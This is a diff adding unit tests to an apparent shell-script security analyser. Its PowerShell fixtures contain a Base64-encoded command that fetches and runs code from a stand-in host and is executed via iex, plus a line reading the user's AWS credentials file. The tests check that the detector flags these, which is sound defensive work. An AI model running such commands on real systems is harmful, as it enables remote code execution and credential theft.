@@ -79,6 +79,22 @@ def test_fetched_text_given_to_iex_or_the_call_operator_still_runs_remote_code(t
     assert all("evil.example.net" in str(c) for f in remote for c in f.capabilities if c.kind == "code.remote")
 
 
+def test_decoded_text_held_in_variables_runs_where_iex_is_given_it() -> None:
+    text = ('$d = [System.Convert]::FromBase64String("aWV4IChpd3IgaHR0cDovL2V2aWwuZXhhbXBsZS9hKQ==")\n'
+            "$t = [System.Text.Encoding]::UTF8.GetString($d)\n"
+            "iex $t\n")
+    rules = _rules(text, "powershell")
+    assert (3, "shell-decoded-payload-exec") in rules and (1, "shell-decoded-payload-exec") not in rules
+    assert not _rules(text.rsplit("iex", 1)[0], "powershell")  # decoded and never run: nothing runs
+
+
+def test_an_assigned_command_runs() -> None:
+    text = "$c = Get-Content $env:USERPROFILE\\.aws\\credentials\nWrite-Host $c\n"
+    found = _facts(text, "powershell")
+    assert (1, "shell-secret-file-read", "`get-content` reads ~/.aws/credentials (cloud:aws credentials)") in found
+    assert not [f for f in found if f[0] == 2 and f[1] == "shell-exec"]  # $c is the output, not a program name
+
+
 def test_only_env_drive_variables_are_environment_reads() -> None:
     text = ('$result = Get-Content config.json\n'
             'Write-Host $result $PSVersionTable $LIMIT $env:API_TOKEN\n')
